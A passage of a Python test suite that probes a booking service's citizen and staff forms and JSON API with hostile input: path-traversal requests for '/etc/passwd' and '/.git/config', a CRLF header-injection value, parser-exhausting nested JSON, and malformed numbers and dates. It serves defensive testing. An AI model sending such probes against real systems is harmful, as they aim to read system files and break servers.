            self.citizen_form("interpreterLanguage=other, Other=<inj>+newline", "/booking/requests",
                              [("lang", "en"), ("token", self.token), ("interpreterLanguage", "other"), ("interpreterLanguageOther", v + "\n" + "z" * 61)], 400)
            self.citizen_form("providerId=<inj>", "/complaints", [("lang", "en"), ("providerId", v), ("about", "service"), ("text", "hello")], 400)
            self.citizen_form("about=<inj>", "/complaints", [("lang", "en"), ("providerId", "uturn"), ("about", v), ("text", "hello")], 400)
            self.citizen_form("text=<inj> without about", "/complaints", [("lang", "en"), ("providerId", "uturn"), ("text", v)], 400)
            self.citizen_form("token=<inj>", "/complaints", [("lang", "en"), ("about", "service"), ("text", "hello"), ("token", v)], 400)
            self.citizen_form("use=<inj>", "/follow-up", [("lang", "en"), ("token", self.follow_up), ("use", v), ("wantsConversation", v)], (400, 409))
            # The complaint form's language choice only re-shows what was typed (200), escaped.
            self.citizen_form("lang=<inj>, text=<inj>: shown again, escaped", "/complaints/language", [("lang", v), ("text", v), ("token", v)], 200)

            # Citizen API.
            b = self.bearer
            book = {"serviceId": "uturn", "slotId": self.slot, "ageBand": "18-24"}
            self.json_call("serviceId", "POST", "/api/v1/bookings", {**book, "serviceId": v}, 404, field="serviceId")
            self.json_call("slotId", "POST", "/api/v1/bookings", {**book, "slotId": v}, 404, field="slotId")
            self.json_call("ageBand", "POST", "/api/v1/bookings", {**book, "ageBand": v}, 400, field="ageBand")
            self.json_call("substances", "POST", "/api/v1/bookings", {**book, "substances": [v]}, 400, field="substances")
            self.json_call("message, no ageBand", "POST", "/api/v1/bookings", {"serviceId": "uturn", "slotId": self.slot, "message": v,
                                                                              "interpreterLanguage": v[:50]}, 400, field="ageBand")
            self.json_call("slotId", "POST", "/api/v1/bookings/current/reschedule", {"slotId": v}, 404, token=self.token, field="slotId")
            self.json_call("interpreterLanguage too long", "POST", "/api/v1/bookings/current/requests", {"interpreterLanguage": v + "\n" + "z" * 61},
                           400, token=self.token, field="interpreterLanguage")
            self.json_call("interpreterLanguage, companion as text", "POST", "/api/v1/bookings/current/requests",
                           {"interpreterLanguage": v, "companion": v}, 400, token=self.token, field="companion")
            self.json_call("providerId", "POST", "/api/v1/complaints", {"providerId": v, "about": "service", "text": "hello"}, 400, field="providerId")
            self.json_call("serviceId", "POST", "/api/v1/complaints", {"providerId": "uturn", "serviceId": v, "about": "service", "text": "hi"}, 400,
                           field="serviceId")
            self.json_call("about", "POST", "/api/v1/complaints", {"providerId": "uturn", "about": v, "text": "hello"}, 400, field="about")
            self.json_call("text, no about", "POST", "/api/v1/complaints", {"providerId": "uturn", "text": v}, 400, field="about")
            self.json_call("use", "POST", "/api/v1/follow-ups", {"use": v, "wantsConversation": False}, (400, 409), token=self.follow_up)
            self.json_call("bearer <inj>", "GET", "/api/v1/bookings/current", None, 400, token=quote(v)[:3000])

            # Staff API.
            u = b["counsellor-uturn"]
            case = f"/api/v1/staff/cases/{self.case}"
            self.json_call("token", "POST", "/api/v1/staff/checkins", {"token": v}, 400, token=u, field="token")
            self.json_call("serviceId", "POST", "/api/v1/staff/walkins", {"serviceId": v, "ageBand": "18-24"}, 404, token=u, field="serviceId")
            self.json_call("ageBand", "POST", "/api/v1/staff/walkins", {"serviceId": "uturn", "ageBand": v}, 400, token=u, field="ageBand")
            self.json_call("token", "POST", "/api/v1/staff/walkins", {"token": v}, 400, token=u, field="token")
            self.json_call("slotId", "POST", "/api/v1/staff/bookings", {"serviceId": "pas", "slotId": v, "ageBand": "25-plus", "substances": ["cocaine"],
                                                                       "receivesOtherSocialSupport": False}, 404,
                           token=b["phone-pas"], field="slotId")
            self.json_call("caseCode in the path", "GET", f"/api/v1/staff/cases/{quote(v)}", None, 404, token=u, field="caseCode")
            for action in ("follow-up", "no-show", "notes"):
                self.json_call(f"caseCode in the path ({action})", "POST", f"/api/v1/staff/cases/{quote(v)}/{action}", {"text": "x"}, 404, token=u,
                               field="caseCode")
            self.json_call("slotId", "POST", f"{case}/bookings", {"slotId": v}, 404, token=u, field="slotId")
            self.json_call("text over 10 000", "POST", f"{case}/notes", {"text": v + "z" * 10_001}, 400, token=u, field="text")
            self.json_call("outcome", "POST", f"/api/v1/staff/cases/{self.pas_case}/decision", {"outcome": v, "reason": v, "referralProviderId": v},
                           400, token=b["counsellor-pas"], field="outcome")
            self.json_call("reason", "POST", f"{case}/close", {"reason": v}, 400, token=u, field="reason")
            self.json_call("outcome", "POST", f"{case}/close", {"reason": "completed", "outcome": v}, 400, token=u, field="outcome")
            self.json_call("carry, consent as text", "POST", f"{case}/handover", {"carry": {v[:40]: v}, "parentalConsent": v}, 400, token=u,
                           field="parentalConsent")
            self.json_call("?date=", "GET", f"/api/v1/staff/schedule?date={quote(v)}", None, 400, token=u, field="date")
            self.json_call("?caseCode=", "GET", f"/api/v1/staff/access-log?caseCode={quote(v)}", None, 404, token=b["auditor-pas"], field="caseCode")
            self.json_call("?staff= with ?from=", "GET", f"/api/v1/staff/access-log?staff={quote(v)}&from={quote(v)}", None, 400,
                           token=b["auditor-pas"])
            self.json_call("?to=", "GET", f"/api/v1/staff/access-log?to={quote(v)}", None, 400, token=b["admin-pas"], field="to")
            self.json_call("?status=", "GET", f"/api/v1/staff/complaints?status={quote(v)}", None, 400, token=b["manager"], field="status")
            self.json_call("complaintCode in the path", "POST", f"/api/v1/staff/complaints/{quote(v)}/handled", None, 404, token=b["manager"],
                           field="complaintCode")
            self.json_call("?from=", "GET", f"/api/v1/stats?from={quote(v)}&to=2026-12", None, 400, token=b["manager"], field="from")
            self.json_call("?to=", "GET", f"/api/v1/stats.csv?from=2026-01&to={quote(v)}", None, 400, token=b["manager"], field="to")
            meeting = {"date": today, "start": "17:00", "minutes": 90}
            au = b["admin-uturn"]
            self.json_call("serviceId", "POST", "/api/v1/staff/groups", {"serviceId": v, "seats": 5, "meetings": [meeting]}, 404, token=au,
                           field="serviceId")
            self.json_call("meetings.date", "POST", "/api/v1/staff/groups", {"serviceId": "uturn-parents", "seats": 5,
                                                                            "meetings": [{**meeting, "date": v}]}, 400, token=au, field="meetings")
            self.json_call("meetings.start", "POST", "/api/v1/staff/groups", {"serviceId": "uturn-parents", "seats": 5,
                                                                             "meetings": [{**meeting, "start": v}]}, 400, token=au, field="meetings")
            self.json_call("caseCode", "POST", f"/api/v1/staff/groups/{self.course}/seats", {"caseCode": v}, 404, token=u, field="caseCode")
            self.json_call("courseId in the path", "POST", f"/api/v1/staff/groups/{quote(v)}/seats", {"caseCode": self.case}, 404, token=u,
                           field="courseId")
            self.json_call("meeting in the path", "POST", f"/api/v1/staff/groups/{self.course}/meetings/{quote(v)}/attendance",
                           {"caseCode": self.case}, 404, token=u, field="meeting")
            self.json_call("caseCode", "POST", f"/api/v1/staff/groups/{self.course}/meetings/1/attendance", {"caseCode": v}, 404, token=u,
                           field="caseCode")

            # Staff pages.
            cp = f"/staff/cases/{self.case}"
            self.staff_form("token=<inj>", "/staff/checkin", [("token", v)], 400)
            self.staff_form("serviceId=<inj>", "/staff/walkin", [("serviceId", v), ("ageBand", "18-24")], 404)
            self.staff_form("ageBand=<inj>", "/staff/walkin", [("serviceId", "uturn"), ("ageBand", v)], 400)
            self.staff_form("slotId=<inj>", "/staff/phone", [("slotId", v), ("ageBand", "18-24")], 404)
            self.staff_form("text over 10 000", f"{cp}/notes", [("text", v + "z" * 10_001)], 400)
            self.staff_form("slotId=<inj>", f"{cp}/bookings", [("slotId", v)], 404)
            self.staff_form("caseCode in the path", f"/staff/cases/{quote(v)}/follow-up", [], 404)
            self.staff_form("caseCode in the path", f"/staff/cases/{quote(v)}/no-show", [], 404)
            self.staff_form("outcome=<inj>", f"/staff/cases/{self.pas_case}/decision", [("outcome", v), ("reason", v)], 400, who="admin-pas")
            self.staff_form("reason=<inj>", f"{cp}/close", [("reason", v)], 400)
            self.staff_form("carry over 2000", f"{cp}/handover", [("carry", v + "z" * 2001)], 400)
            self.staff_form("serviceId=<inj>", "/staff/groups", [("serviceId", v), ("seats", "5"), ("meetings", f"{today} 17:00 90")], 404)
            self.staff_form("meetings=<inj>", "/staff/groups", [("serviceId", "uturn-parents"), ("seats", "5"), ("meetings", v)], 400)
            self.staff_form("seats=<inj>", "/staff/groups", [("serviceId", "uturn-parents"), ("seats", v), ("meetings", f"{today} 17:00 90")], 400)
            self.staff_form("caseCode=<inj>", f"/staff/groups/{self.course}/seats", [("caseCode", v)], 404)
            self.staff_form("caseCode=<inj>", f"/staff/groups/{self.course}/attendance", [("meeting", "1"), ("caseCode", v)], 404)
            self.staff_form("complaintCode in the path", f"/staff/complaints/{quote(v)}/handled", [], 404, who="admin-pas")
            self.staff_form("csrf=<inj>", "/staff/checkin", [("csrf", v), ("token", "x")], 403, csrf=False)
            self.staff_get("caseCode in the path", f"/staff/cases/{quote(v)}", 404)
            self.staff_get("?caseCode=", f"/staff/access-log?caseCode={quote(v)}", 404, who="admin-pas")
            self.staff_get("?from=", f"/staff/access-log?from={quote(v)}", 400, who="admin-pas")
            self.staff_get("?from=", f"/staff/figures?from={quote(v)}&to=2026-12", 400, who="admin-pas")
            self.staff_get("?status=", f"/staff/complaints?status={quote(v)}", 400, who="admin-pas")
        # Sign-in with hostile names (each its own back-off key; a few, the password check is slow by design).
        for value in INJECTIONS[:6] + [INJECTIONS[-1][:100]]:
            self.json_call("username <inj>", "POST", "/api/v1/staff/sessions", {"username": value, "password": "wrong"}, 401)
            _, sign_in_page = self.send("GET", "/staff"), None
            csrf = re.search(r'name="csrf" value="([^"]+)"', self.send("GET", "/staff").text).group(1)
            answer = self.send("POST", "/staff/sign-in", form_bytes([("csrf", csrf), ("username", value + "x"), ("password", "wrong")]),
                               {"Content-Type": "application/x-www-form-urlencoded", "Origin": self.gw.base})
            self.expect("POST /staff/sign-in username=<inj>", answer, 401, "staff", sent=value)
        self.json_call("totp <inj>", "POST", "/api/v1/staff/sessions", {"username": "nobody", "password": "x", "totp": SCRIPT}, 401)
        answer = self.send("POST", "/staff/sign-in", form_bytes([("csrf", SCRIPT), ("username", "x"), ("password", "y")]),
                           {"Content-Type": "application/x-www-form-urlencoded"})
        self.expect("POST /staff/sign-in csrf=<script>", answer, 403, "staff", sent=SCRIPT)
        # CRLF in the query of GET pages: never a header.
        answer = self.send("GET", "/booking?lang=" + quote("en\r\nX-Injected: 1"))
        self.expect("GET /booking?lang=<CRLF header> (lenient: Danish page)", answer, 200, "bare")
        self.alive()

    # -- numbers --------------------------------------------------------------------------------
    def numbers(self):
        self.begin("huge, negative and non-numbers; wrong JSON types")
        b = self.bearer
        au, u = b["admin-uturn"], b["counsellor-uturn"]
        for days in ("-1", "0", "15", "99999999999999999999", "18446744073709551616", "1e400", "NaN", "Infinity", "1.5", "", "0x10", " 3"):
            self.json_call(f"days={days!r}", "GET", f"/api/v1/services/uturn/slots?days={quote(days)}", None, 400, field="days")
        for day in ("-2026-12-07", "99999-01-01", "2026-12-7", "20261207", "2026-1-07"):
            self.json_call(f"from={day!r}", "GET", f"/api/v1/services/uturn/slots?from={quote(day)}", None, 400, field="from")
        day = (datetime.date.fromisoformat(self.gw.at[:10]) + datetime.timedelta(days=7)).isoformat()
        meeting = {"date": day, "start": "17:00", "minutes": 90}
        group = {"serviceId": "uturn-parents", "seats": 5, "meetings": [meeting]}
        numbers = ["-1", "0", "99999999999999999999", "18446744073709551616", "-9223372036854775809", "1e400", "-1e400", "1.5", "NaN",
                   "Infinity", "-Infinity", '"10"', "true", "[5]", "{}"]
        for n in numbers + ["1", "31"]:
            raw = json.dumps(group).replace('"seats": 5', f'"seats": {n}').encode()
            self.json_call(f"seats {n}", "POST", "/api/v1/staff/groups", None, 400, token=au, raw_body=raw)
        for n in numbers + ["29", "301"]:
            raw = json.dumps(group).replace('"minutes": 90', f'"minutes": {n}').encode()
            self.json_call(f"minutes {n}", "POST", "/api/v1/staff/groups", None, 400, token=au, raw_body=raw)
        for n in ("-1", "0", "1001", "99999999999999999999", "18446744073709551616", "1e400", "NaN", "1.0", "%2D1"):
            self.json_call(f"meeting {n}", "POST", f"/api/v1/staff/groups/{self.course}/meetings/{n}/attendance", {"caseCode": self.case}, 404,
                           token=u, field="meeting")
        for n in ("-1", "0", "99999999999999999999", "1e400", "NaN", ""):
            self.staff_form(f"seats={n}", "/staff/groups", [("serviceId", "uturn-parents"), ("seats", n), ("meetings", f"{day} 17:00 90")], 400)
            self.staff_form(f"minutes={n}", "/staff/groups", [("serviceId", "uturn-parents"), ("seats", "5"), ("meetings", f"{day} 17:00 {n}")], 400)
            self.staff_form(f"meeting={n}", f"/staff/groups/{self.course}/attendance", [("meeting", n), ("caseCode", self.case)], 404)
        # JSON that is not JSON, or not the shape asked for.
        for text in ("NaN", "Infinity", '{"serviceId": NaN}', '{"serviceId": Infinity}', '{"companion": -Infinity}',
                     "{" + ",".join(f'"{k.decode()}": 1e400' for k in FIELDS) + "}",
                     "{", "{'serviceId':'uturn'}", "null", "true", '"uturn"', "[]", "123", " ", "\x00"):
            # Not here: '{"a":1,}'. Foundation's JSON parser (JSONDecoder and JSONSerialization alike) takes a
            # trailing comma; what it then reads is what the sender meant, so it is left (SECURITY.md, limits).
            for method, path, token in self.api_posts()[:6] + [("POST", "/api/v1/staff/groups", au)]:
                self.json_call("body", method, path, None, 400, token=token, raw_body=text.encode())
        wrong_types = [
            ("POST", "/api/v1/bookings", None, {"serviceId": 123, "slotId": self.slot, "ageBand": "18-24"}, "serviceId"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "pas", "slotId": self.slot, "ageBand": "25-plus", "substances": "cocaine"}, "substances"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "uturn", "slotId": [self.slot], "ageBand": "18-24"}, "slotId"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "uturn", "slotId": self.slot, "ageBand": 18}, "ageBand"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "uturn", "slotId": self.slot, "ageBand": "18-24", "companion": "yes"}, "companion"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "uturn", "slotId": self.slot, "ageBand": "18-24", "companion": 1}, "companion"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "uturn", "slotId": self.slot, "ageBand": "18-24", "message": {"a": 1}}, "message"),
            ("POST", "/api/v1/bookings", None, {"serviceId": "pas", "slotId": self.slot, "ageBand": "25-plus", "substances": [1]}, ("substances.0", "substances[0]")),
            ("POST", "/api/v1/bookings/current/reschedule", self.token, {"slotId": 20261207}, "slotId"),
            ("POST", "/api/v1/bookings/current/requests", self.token, {"companion": "true"}, "companion"),
            ("POST", "/api/v1/complaints", None, {"providerId": ["uturn"], "about": "service", "text": "x"}, "providerId"),
            ("POST", "/api/v1/follow-ups", self.follow_up, {"use": "none", "wantsConversation": "no"}, "wantsConversation"),
            ("POST", "/api/v1/staff/sessions", None, {"username": 1, "password": "x"}, "username"),
            ("POST", "/api/v1/staff/checkins", u, {"token": 12345}, "token"),
            ("POST", "/api/v1/staff/walkins", u, {"serviceId": None, "ageBand": {}}, "ageBand"),
            ("POST", f"/api/v1/staff/cases/{self.case}/notes", u, {"text": ["a"]}, "text"),
            ("POST", f"/api/v1/staff/cases/{self.case}/close", u, {"reason": "completed", "followUp": "yes"}, "followUp"),
            ("POST", f"/api/v1/staff/cases/{self.case}/handover", u, {"carry": ["a"]}, "carry"),
            ("POST", f"/api/v1/staff/cases/{self.case}/handover", u, {"carry": {"a": 1}}, "carry.a"),
            ("POST", f"/api/v1/staff/cases/{self.pas_case}/decision", b["counsellor-pas"], {"outcome": "granted", "shareNotes": "yes"}, "shareNotes"),
            ("POST", "/api/v1/staff/groups", au, {"serviceId": "uturn-parents", "seats": 5, "meetings": {"date": day}}, "meetings"),
            ("POST", "/api/v1/staff/groups", au, {"serviceId": "uturn-parents", "seats": 5, "meetings": [day]}, ("meetings.0", "meetings[0]")),
            ("POST", f"/api/v1/staff/groups/{self.course}/seats", u, {"caseCode": 42}, "caseCode"),
        ]
        for method, path, token, body, field in wrong_types:
            self.json_call("wrong type", method, path, body, 400, token=token, field=field)
        # Nesting deep enough to exhaust a recursive parser, inside the size limit.
        for name, text in (("60 000 [", "[" * 60_000), ("20 000 {\"a\":", '{"a":' * 12_000), ("deep but closed", "[" * 30_000 + "]" * 30_000)):
            for method, path, token in (("POST", "/api/v1/bookings", None), ("POST", "/api/v1/staff/walkins", u)):
                self.json_call(f"nesting {name}", method, path, None, 400, token=token, raw_body=text.encode())
        self.alive()

    # -- dates ----------------------------------------------------------------------------------
    def impossible_dates(self):
        self.begin("dates and times that do not exist (30 Feb, DST gap and overlap)")
        b = self.bearer
        u, au = b["counsellor-uturn"], b["admin-uturn"]
        stamps = [("30 February", "20270230T0900"), ("29 February 2027", "20270229T0900"), ("month 13", "20271301T0900"),
                  ("day 00", "20270100T0900"), ("24:00", "20261208T2400"), ("09:60", "20261208T0960"),
                  ("spring-forward 02:30", "20270328T0230"), ("autumn 02:30 (twice)", "20261025T0230"),
                  ("autumn 02:30 next year (twice)", "20271031T0230"), ("year 0000", "00001208T0900"), ("short", "20261208T090")]
        for name, stamp in stamps:
            for provider, service, band in (("uturn", "uturn", "18-24"), ("kk-pas", "pas", "25-plus")):
                slot = f"{provider}.{service}.{stamp}"
                self.json_call(f"booking at {name}", "POST", "/api/v1/bookings",
                               {"serviceId": service, "slotId": slot, "ageBand": band, "substances": ["cocaine"], "receivesOtherSocialSupport": False},
                               404, field="slotId")
            slot = f"uturn.uturn.{stamp}"
            self.json_call(f"reschedule to {name}", "POST", "/api/v1/bookings/current/reschedule", {"slotId": slot}, 404, token=self.token, field="slotId")
            self.json_call(f"phone booking at {name}", "POST", "/api/v1/staff/bookings",
                           {"serviceId": "pas", "slotId": f"kk-pas.pas.{stamp}", "ageBand": "25-plus", "substances": ["cocaine"],
                            "receivesOtherSocialSupport": False}, 404, token=b["phone-pas"], field="slotId")
            self.json_call(f"next session at {name}", "POST", f"/api/v1/staff/cases/{self.case}/bookings", {"slotId": slot}, 404, token=u,
                           field="slotId")
            c = [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24")]
            self.citizen_form(f"slot at {name}", "/book/details", c + [("slot", slot)], 404)
            self.citizen_form(f"slot at {name}", "/book", c + [("slot", slot), ("nonce", "x")], 400)
            self.citizen_form(f"slot at {name}", "/booking/calendar.ics", [("slot", slot)], 404)
            self.citizen_form(f"slot at {name}", "/booking/move/confirm", [("lang", "en"), ("token", self.token), ("slot", slot)], 404)
            self.staff_form(f"slotId at {name}", f"/staff/cases/{self.case}/bookings", [("slotId", slot)], 404)
            self.staff_form(f"slotId at {name}", "/staff/phone", [("slotId", f"uturn.uturn.{stamp}"), ("ageBand", "18-24")], 404)
        for day in ("2027-02-30", "2027-02-29", "2026-02-29", "2027-04-31", "2027-13-01", "2027-00-10", "2027-01-00", "0000-01-01", "2027-2-3"):
            self.json_call(f"slots from {day}", "GET", f"/api/v1/services/uturn/slots?from={day}", None, 400, field="from")
            self.json_call(f"schedule of {day}", "GET", f"/api/v1/staff/schedule?date={day}", None, 400, token=u, field="date")
            self.json_call(f"access log from {day}", "GET", f"/api/v1/staff/access-log?from={day}", None, 400, token=b["auditor-pas"], field="from")
            self.json_call(f"access log to {day}", "GET", f"/api/v1/staff/access-log?to={day}", None, 400, token=b["auditor-pas"], field="to")
            self.staff_get(f"access log from {day}", f"/staff/access-log?from={day}", 400, who="admin-pas")
            self.staff_get(f"schedule of {day}", f"/staff/schedule?date={day}", 400)
        for first, last, field in (("2027-02-30", "2027-03", "from"), ("2027-13", "2027-12", "from"), ("2027-00", "2027-01", "from"),
                                   ("2026-01", "2026-13", "to"), ("0000-01", "0000-02", "from"), ("2026-1", "2026-02", "from"),
                                   ("2026-12", "2026-01", "to"), ("1900-01", "2026-12", "to"), ("2026-06", "", "to"), ("", "2026-06", "from"),
                                   ("10000-01", "10000-02", "from"), ("2026-W01", "2026-02", "from")):
            query = f"from={first}&to={last}"
            self.json_call(f"stats {query}", "GET", f"/api/v1/stats?{query}", None, 400, token=b["manager"], field=field)
            self.json_call(f"stats.csv {query}", "GET", f"/api/v1/stats.csv?{query}", None, 400, token=b["admin-pas"], field=field)
            if first and last:  # the page's empty fields mean its default period
                self.staff_get(f"figures {query}", f"/staff/figures?{query}", 400, who="admin-pas")
        self.json_call("stats without from/to", "GET", "/api/v1/stats", None, 400, token=b["manager"], field="from")
        # Group meetings at times that do not exist, or exist twice, on the Copenhagen wall clock.
        for date, start, name in (("2027-02-30", "17:00", "30 February"), ("2027-03-28", "02:30", "spring-forward gap"),
                                  ("2027-03-28", "02:00", "spring-forward gap, on the hour"), ("2027-10-31", "02:30", "autumn overlap"),
                                  ("2026-10-25", "02:30", "autumn overlap (past)"), ("2027-01-04", "24:00", "24:00"), ("2027-01-04", "17:60", "17:60"),
                                  ("2027-01-04", "7:5", "7:5"), ("2027-01-04", "-1:00", "-1:00"), ("2027-01-04", "23:30", "past midnight")):
            body = {"serviceId": "uturn-parents", "seats": 5, "meetings": [{"date": date, "start": start, "minutes": 60}]}
            self.json_call(f"group meeting {name}", "POST", "/api/v1/staff/groups", body, 400, token=au, field="meetings")
            self.staff_form(f"group meeting {name}", "/staff/groups", [("serviceId", "uturn-parents"), ("seats", "5"), ("meetings", f"{date} {start} 60")],
                            400)
        self.alive()

    # -- repeated and missing keys --------------------------------------------------------------
    def repeated_and_missing(self):
        self.begin("repeated and missing form keys, missing JSON fields")
        # Missing: every citizen form with nothing in it.
        # A reference left out of a form is a form field missing (400), said as the page says it — not the API's 401.
        missing = {"/book/questions": 400, "/book/times": 400, "/book/details": 400, "/book/confirm": 400, "/book": 400, "/book/done": 400,
                   "/booking/calendar.ics": 404, "/booking": 400, "/booking/cancel": 400, "/booking/requests": 400, "/booking/move": 400,
                   "/booking/move/confirm": 400, "/booking/forget": 400, "/booking/forget/confirm": 400, "/complaints": 400,
                   "/follow-up": 400}
        self.citizen_form("empty body (the language switch shows the empty form)", "/complaints/language", [], 200)
        for path, fields in self.citizen_posts():
            if path == "/complaints/language":
                continue
            self.citizen_form("empty body", path, [], missing[path])
            self.citizen_form("only lang=ar", path, [("lang", "ar")], missing[path])
            self.citizen_form("keys without values", path, None, missing[path], raw_body=b"&".join(k.encode() + b"=" for k, _ in fields if k != "lang"))
            self.citizen_form("keys without '='", path, None, missing[path], raw_body=b"&".join(k.encode() for k, _ in fields if k != "lang"))
            self.citizen_form("101 fields", path, fields + [("x", "1")] * 101, 400, contains="for mange felter")
        # Required answers left out, one at a time.
        c = [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24")]
        self.citizen_form("PAS without substances", "/book/times", [("service", "pas"), ("ageBand", "25-plus"), ("otherSupport", "no")], 400)
        self.citizen_form("PAS without otherSupport", "/book/times", [("service", "pas"), ("ageBand", "25-plus"), ("substances", "cocaine")], 400)
        self.citizen_form("relatives without enrolled", "/book/times", [("service", "relatives"), ("ageBand", "25-plus")], 400)
        self.citizen_form("without slot", "/book/details", c, 400)
        self.citizen_form("without nonce", "/book", c + [("slot", self.slot)], 400)
        self.citizen_form("cancel without confirm", "/booking/cancel", [("token", self.token)], 400)
        self.citizen_form("forget without confirm", "/booking/forget/confirm", [("token", self.token)], 400)
        self.citizen_form("move without slot", "/booking/move/confirm", [("token", self.token)], 400)
        self.citizen_form("complaint without text", "/complaints", [("providerId", "uturn"), ("about", "service")], 400)
        self.citizen_form("complaint without providerId", "/complaints", [("about", "service"), ("text", "hej")], 400)
        self.citizen_form("follow-up without use", "/follow-up", [("token", self.follow_up)], (400, 409))
        # Repeated single-valued keys that disagree: which one is meant cannot be known.
        repeats = [
            ("/book/questions", [("service", "uturn"), ("service", "pas")]),
            ("/book/times", [("service", "uturn"), ("ageBand", "18-24"), ("ageBand", "25-plus")]),
            ("/book/details", c + [("slot", self.slot), ("slot", self.other_slot)]),
            ("/book/confirm", c + [("slot", self.slot), ("slot", self.other_slot)]),
            ("/booking", [("token", self.token), ("token", "AAAA-AAAA-AAAA-AAAA-AAAA")]),
            ("/booking/cancel", [("token", self.token), ("confirm", "no"), ("confirm", "yes")]),
            ("/complaints", [("providerId", "uturn"), ("providerId", "kk-pas"), ("about", "service"), ("text", "hej")]),
            ("/book/questions", [("lang", "en"), ("lang", "ar"), ("service", "uturn")]),
        ]
        for path, fields in repeats:
            self.citizen_form("repeated key with two values", path, fields, 400)
        # Staff forms: missing and repeated.
        staff_missing = [("/staff/checkin", [], 400), ("/staff/walkin", [], 400), ("/staff/phone", [], 404),
                         (f"/staff/cases/{self.case}/notes", [], 400), (f"/staff/cases/{self.case}/bookings", [], 400),
                         (f"/staff/cases/{self.case}/close", [], 400), ("/staff/groups", [], 400),
                         (f"/staff/groups/{self.course}/seats", [], 400), (f"/staff/groups/{self.course}/attendance", [], 400)]
        for path, fields, status in staff_missing:
            self.staff_form("no fields", path, fields, status)
        self.staff_form("no fields", f"/staff/cases/{self.pas_case}/decision", [], 400, who="admin-pas")
        self.staff_form("no csrf", "/staff/checkin", [("token", "x")], 403, csrf=False)
        self.staff_form("two csrf", "/staff/checkin", [("csrf", "forged"), ("token", "x")], 400)
        for path, fields in (("/staff/checkin", [("token", "a"), ("token", "b")]), ("/staff/walkin", [("serviceId", "uturn"), ("serviceId", "pas")]),
                             (f"/staff/cases/{self.case}/notes", [("text", "a"), ("text", "b")]),
                             (f"/staff/cases/{self.case}/close", [("reason", "completed"), ("reason", "other")]),
                             (f"/staff/cases/{self.pas_case}/decision", [("outcome", "granted"), ("outcome", "refused")]),
                             (f"/staff/cases/{self.case}/handover", [("carry", "a"), ("carry", "b")])):
            self.staff_form("repeated key", path, fields, 400, who="admin-pas" if "decision" in path else "admin-uturn")
        self.staff_form("101 fields", "/staff/checkin", [("x", "1")] * 101, 400)
        csrf = re.search(r'name="csrf" value="([^"]+)"', self.send("GET", "/staff").text).group(1)
        answer = self.send("POST", "/staff/sign-in", form_bytes([("csrf", csrf)]), {"Content-Type": "application/x-www-form-urlencoded"})
        self.expect("POST /staff/sign-in without username and password", answer, 401, "staff")
        answer = self.send("POST", "/staff/sign-in", form_bytes([("csrf", csrf), ("username", "a"), ("username", "b"), ("password", "c")]),
                           {"Content-Type": "application/x-www-form-urlencoded"})
        self.expect("POST /staff/sign-in with two usernames", answer, 400, "staff")
        # JSON: an empty object to every operation.
        empty = {"/api/v1/bookings": (400, "serviceId"), "/api/v1/bookings/current/reschedule": (400, "slotId"),
                 "/api/v1/bookings/current/requests": None, "/api/v1/complaints": (400, "about"), "/api/v1/follow-ups": (400, "use"),
                 "/api/v1/staff/sessions": (400, "username"), "/api/v1/staff/checkins": (400, "token"), "/api/v1/staff/walkins": (400, "serviceId"),
                 "/api/v1/staff/bookings": (400, "serviceId"), f"/api/v1/staff/cases/{self.case}/bookings": (400, "slotId"),
                 f"/api/v1/staff/cases/{self.case}/notes": (400, "text"), f"/api/v1/staff/cases/{self.pas_case}/decision": (400, "outcome"),
                 f"/api/v1/staff/cases/{self.case}/close": (400, "reason"), f"/api/v1/staff/cases/{self.case}/handover": (400, "carry"),
                 "/api/v1/staff/groups": (400, "serviceId"), f"/api/v1/staff/groups/{self.course}/seats": (400, "caseCode"),
                 f"/api/v1/staff/groups/{self.course}/meetings/1/attendance": (400, "caseCode")}
        for method, path, token in self.api_posts():
            if empty[path] is None:
                continue  # `{}` changes nothing there: it is a valid (empty) change of requests
            status, field = empty[path]
            self.json_call("empty object", method, path, {}, status, token=token, field=field)
            self.json_call("empty body", method, path, None, 400, token=token, raw_body=b"", contains="malformed-json")
        self.json_call("sign-in without password", "POST", "/api/v1/staff/sessions", {"username": "manager"}, 400, field="password")
        self.json_call("sign-in with empty password", "POST", "/api/v1/staff/sessions", {"username": "manager", "password": ""}, 400, field="password")
        self.alive()

    # -- methods --------------------------------------------------------------------------------
    def methods(self):
        self.begin("unknown and wrong methods, unknown paths")
        routes = [("/", "GET"), ("/book/questions", "POST"), ("/booking", "GET, POST"), ("/complaints", "GET, POST"),
                  ("/api/v1/services", "GET"), ("/api/v1/bookings", "POST"), ("/api/v1/bookings/current", "GET, DELETE"),
                  ("/api/v1/staff/sessions", "POST"), ("/api/v1/staff/cases/ABCD-EFGH", "GET"), ("/api/v1/stats", "GET"),
                  ("/staff/checkin", "POST"), ("/staff/groups", "GET, POST"), ("/healthz", "GET")]
        for path, allowed in routes:
            for method in ("PUT", "PATCH", "TRACE", "PROPFIND", "DELETE", "POST", "GET"):
                if method in allowed:
                    continue
                answer = self.send(method, path, b"", {"Content-Length": "0", "Origin": self.gw.base})
                kind = "problem" if path.startswith("/api/") else "bare"
                self.expect(f"{method} {path}", answer, 405, kind, path=path)
                if answer.status == 405 and "allow" not in answer.headers:
                    self.record(f"{method} {path} has Allow", ["405 without Allow"], answer)
        for method in (b"BREW", b"FOO", b"GET\x00", b"get"):
            self.expect(f"raw method {method!r}", self.raw(method + b" /api/v1/services HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"), (400, 405), "bare")
        for path in ("/api/v1/nothing", "/api/v2/services", "/api/v1/services/uturn/slots/extra", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
                     "/static/../Package.swift", "/static/%2e%2e/%2e%2e/Package.swift", "/api/v1/staff/cases/..%2f..%2fetc", "/.git/config",
                     "/staff/" + "a" * 3000):
            headers = {"Cookie": self.cookie["admin-uturn"][0], "Authorization": "Bearer " + self.bearer["counsellor-uturn"]}
            answer = self.send("GET", path, headers=headers)
            self.expect(f"GET {path[:80]}", answer, 404, "problem" if path.startswith("/api/") else "bare", path=path)
            if b"swift-tools-version" in answer.body or b"[core]" in answer.body or b"root:" in answer.body:
                self.record(f"GET {path} leaks a file", ["a file outside the site was served"], answer)
        self.alive()

    # -- bearer tokens --------------------------------------------------------------------------
